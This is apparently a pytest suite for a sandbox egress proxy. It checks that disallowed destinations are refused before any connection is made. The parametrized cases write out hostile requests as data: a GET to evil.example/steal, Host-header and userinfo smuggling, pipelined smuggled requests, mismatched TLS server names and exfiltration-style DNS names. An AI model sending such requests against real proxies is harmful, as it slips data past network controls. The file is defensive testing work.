"""The egress proxy outside the sandbox, spoken to directly over its unix socket the way a
hostile command inside would: every destination is checked before any connection."""

from __future__ import annotations

import contextlib
import http.server
import ipaddress
import socket
import ssl
import threading
from collections.abc import Iterator, Sequence
from dataclasses import replace
from pathlib import Path

import pytest

from clawkeep.guards.network_guard import NetworkPolicy
from clawkeep.sandbox import SandboxSpec
from clawkeep.sandbox.egress import egress_proxy


class _Upstream(http.server.BaseHTTPRequestHandler):
    hits: list[str] = []

    def do_GET(self) -> None:
        self.hits.append(self.path)
        self.send_response(200)
        self.send_header("Content-Length", "8")
        self.end_headers()
        self.wfile.write(b"upstream")

    def do_POST(self) -> None:
        body = self.rfile.read(int(self.headers.get("Content-Length", "0")))
        self.hits.append(f"{self.path} {body.decode()}")
        self.send_response(200)
        self.send_header("Content-Length", "8")
        self.end_headers()
        self.wfile.write(b"upstream")

    def log_message(self, format: str, *args: object) -> None:
        return


@pytest.fixture
def upstream() -> Iterator[tuple[int, list[str]]]:
    hits: list[str] = []
    handler = type("Handler", (_Upstream,), {"hits": hits})
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server.server_address[1], hits
    server.shutdown()
    server.server_close()


def _spec(tmp_path: Path, port: int) -> SandboxSpec:
    answers = {"allowed.example": ["127.0.0.1"], "evil.example": ["127.0.0.1"]}
    return SandboxSpec(
        workspace=tmp_path,
        egress_domains=("allowed.example",),
        egress_ports=(port,),
        network_policy=NetworkPolicy(allow_cidrs=(ipaddress.ip_network("127.0.0.1/32"),)),
        egress_resolver=lambda host: answers.get(host) or [],
    )


def _ask(path: Path, raw: bytes) -> bytes:
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
        s.settimeout(5)
        s.connect(str(path))
        s.sendall(raw)
        data = b""
        while chunk := s.recv(65536):
            data += chunk
        return data


def test_forward_request_to_allowed_domain_is_relayed(
    tmp_path: Path, upstream: tuple[int, list[str]]
) -> None:
    port, hits = upstream
    with egress_proxy(_spec(tmp_path, port)) as (_, path):
        raw = f"GET http://allowed.example:{port} HTTP/1.0\r\nHost: allowed.example\r\n\r\n"
        answer = _ask(path, raw.encode())
    assert answer.startswith(b"HTTP/1.0 200") and answer.endswith(b"upstream")
    assert hits == ["/"]


@pytest.mark.parametrize(
    "request_line",
    [
        "GET http://evil.example:{port}/steal HTTP/1.0",  # not on the agent's list
        "GET http://user:pw@allowed.example:{port}/ HTTP/1.0",  # userinfo smuggling
        "CONNECT 127.0.0.1:{port} HTTP/1.1",  # an IP literal is not an allowed domain
        "CONNECT allowed.example:22 HTTP/1.1",  # a port that is not egress
        "GET /relative HTTP/1.0",  # not a proxy request at all
    ],
)
def test_refused_destination_never_reaches_upstream(
    tmp_path: Path, upstream: tuple[int, list[str]], request_line: str
) -> None:
    port, hits = upstream
    with egress_proxy(_spec(tmp_path, port)) as (proxy, path):
        answer = _ask(path, request_line.format(port=port).encode() + b"\r\nHost: x\r\n\r\n")
    assert answer.startswith(b"HTTP/1.1 403")
    assert proxy.refused
    assert hits == []


def _client_hello(server_name: str) -> bytes:
    """A real ClientHello from Python's TLS client, asking for ``server_name``."""
    ctx = ssl.create_default_context()
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = ctx.wrap_bio(incoming, outgoing, server_hostname=server_name)
    with contextlib.suppress(ssl.SSLWantReadError):
        tls.do_handshake()
    return outgoing.read()


@pytest.fixture
def listener() -> Iterator[tuple[int, list[bytes]]]:
    """A raw TCP upstream recording the first bytes of every connection that arrives."""
    got: list[bytes] = []
    server = socket.create_server(("127.0.0.1", 0))

    def accept() -> None:
        with contextlib.suppress(OSError):
            while True:
                conn, _ = server.accept()
                conn.settimeout(2)
                with conn, contextlib.suppress(OSError):
                    got.append(conn.recv(65536))

    threading.Thread(target=accept, daemon=True).start()
    yield server.getsockname()[1], got
    server.close()


def test_connect_tunnel_relays_tls_for_the_checked_name(
    tmp_path: Path, listener: tuple[int, list[bytes]]
) -> None:
    port, got = listener
    hello = _client_hello("allowed.example")
    with egress_proxy(_spec(tmp_path, port)) as (proxy, path):
        answer = _ask_partial(
            path, f"CONNECT allowed.example:{port} HTTP/1.1\r\n\r\n".encode() + hello
        )
    assert answer.startswith(b"HTTP/1.1 200 Connection established")
    assert not proxy.refused
    assert got == [hello]


@pytest.mark.parametrize(
    "payload",
    [
        _client_hello("evil.example"),  # TLS to the allowed address, asking for another site
        b"GET /tunnel HTTP/1.1\r\nHost: evil.example\r\n\r\n",  # plaintext with its own Host
    ],
)
def test_connect_tunnel_naming_another_host_never_connects(
    tmp_path: Path, listener: tuple[int, list[bytes]], payload: bytes
) -> None:
    port, got = listener
    with egress_proxy(_spec(tmp_path, port)) as (proxy, path):
        _ask_partial(path, f"CONNECT allowed.example:{port} HTTP/1.1\r\n\r\n".encode() + payload)
    assert [d.reason for d in proxy.refused] == ["sandbox.egress_host_mismatch"]
    assert got == []


@pytest.mark.parametrize(
    "head",
    [
        "GET http://allowed.example:{port}/ HTTP/1.1\r\nHost: evil.example\r\n",
        "GET http://allowed.example:{port}/ HTTP/1.1\r\nHost: allowed.example:1\r\n",
        "GET http://allowed.example:{port}/ HTTP/1.1\r\nHost: allowed.example\r\nHost: evil.example\r\n",
        "GET http://allowed.example:{port}/ HTTP/1.1\r\nHost : evil.example\r\n",
        "GET http://allowed.example:{port}/ HTTP/1.1\r\nX-A: 1\nHost: evil.example\r\n",
        "CONNECT allowed.example:{port} HTTP/1.1\r\nHost: evil.example\r\n",
    ],
)
def test_host_header_other_than_the_checked_target_is_refused(
    tmp_path: Path, upstream: tuple[int, list[str]], head: str
) -> None:
    port, hits = upstream
    with egress_proxy(_spec(tmp_path, port)) as (proxy, path):
        answer = _ask(path, head.format(port=port).encode() + b"\r\n")
    assert answer.startswith(b"HTTP/1.1 403")
    assert hits == []
    assert proxy.refused


def test_second_request_pipelined_behind_an_allowed_one_is_not_relayed(
    tmp_path: Path, upstream: tuple[int, list[str]]
) -> None:
    port, hits = upstream
    with egress_proxy(_spec(tmp_path, port)) as (_, path):
        raw = (
            f"GET http://allowed.example:{port}/one HTTP/1.1\r\nHost: allowed.example\r\n\r\n"
            "GET /two HTTP/1.1\r\nHost: evil.example\r\n\r\n"
        )
        answer = _ask(path, raw.encode())
    assert answer.endswith(b"upstream")
    assert hits == ["/one"]


def test_request_body_is_relayed_and_nothing_after_it(
    tmp_path: Path, upstream: tuple[int, list[str]]
) -> None:
    port, hits = upstream
    with egress_proxy(_spec(tmp_path, port)) as (_, path):
        raw = (
            f"POST http://allowed.example:{port}/form HTTP/1.1\r\nHost: allowed.example\r\n"
            "Content-Length: 5\r\n\r\nhello"
            "GET /smuggled HTTP/1.1\r\nHost: evil.example\r\n\r\n"
        )
        answer = _ask(path, raw.encode())
    assert answer.endswith(b"upstream")
    assert hits == ["/form hello"]


def test_name_outside_allow_domains_never_reaches_the_resolver(
    tmp_path: Path, upstream: tuple[int, list[str]]
) -> None:
    port, hits = upstream
    asked: list[str] = []
    spec = _spec(tmp_path, port)
    inner = spec.egress_resolver
    assert inner is not None

    def counting(host: str) -> Sequence[str]:
        asked.append(host)
        return inner(host)

    spec = replace(spec, egress_resolver=counting)
    with egress_proxy(spec) as (proxy, path):
        for host in ("secret-4f2a.exfil.example", "allowed.example.exfil.example"):
            raw = f"GET http://{host}:{port}/ HTTP/1.1\r\nHost: {host}\r\n\r\n"
            assert _ask(path, raw.encode()).startswith(b"HTTP/1.1 403")
        ok = f"GET http://allowed.example:{port}/ HTTP/1.1\r\nHost: allowed.example\r\n\r\n"
        assert _ask(path, ok.encode()).endswith(b"upstream")
    assert asked == ["allowed.example"]  # only the allowed name was ever looked up
    assert [d.reason for d in proxy.refused] == ["network_guard.domain_not_allowed"] * 2
    assert hits == ["/"]


def test_connection_flood_is_refused_without_a_thread_per_connection(tmp_path: Path) -> None:
    spec = replace(_spec(tmp_path, 80), egress_max_connections=4)
    held: list[socket.socket] = []
    with egress_proxy(spec) as (proxy, path):
        before = threading.active_count()
        try:
            for _ in range(4):  # idle connections: each holds a slot (and a thread)
                s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
                s.connect(str(path))
                held.append(s)
            answers = [_answer_on_connect(path) for _ in range(50)]
            threads = threading.active_count() - before
        finally:
            for s in held:
                s.close()
    assert all(a.startswith(b"HTTP/1.1 503") for a in answers)
    assert [d.reason for d in proxy.refused].count("sandbox.egress_too_many") == 50
    assert threads <= 4  # one per held connection; the refused 50 made none


def _answer_on_connect(path: Path) -> bytes:
    """What the proxy says to a connection that sends nothing (over the limit: a 503)."""
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
        s.settimeout(5)
        s.connect(str(path))
        data = b""
        while chunk := s.recv(65536):
            data += chunk
        return data


def _ask_partial(path: Path, raw: bytes) -> bytes:
    """Send ``raw`` and read what comes back until the proxy closes or stays quiet."""
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
        s.settimeout(2)
        s.connect(str(path))
        s.sendall(raw)
        data = b""
        with contextlib.suppress(TimeoutError):
            while chunk := s.recv(65536):
                data += chunk
        return data


def test_connect_to_the_plain_http_port_is_refused(tmp_path: Path) -> None:
    # A tunnel to port 80 could carry a fake ClientHello followed by a plain request with
    # its own Host; plain HTTP must go as a forward request, whose Host is checked.
    spec = replace(_spec(tmp_path, 80), egress_ports=(80, 443))
    with egress_proxy(spec) as (proxy, path):
        answer = _ask(path, b"CONNECT allowed.example:80 HTTP/1.1\r\n\r\n")
    assert answer.startswith(b"HTTP/1.1 403")
    assert [d.reason for d in proxy.refused] == ["sandbox.egress_port"]
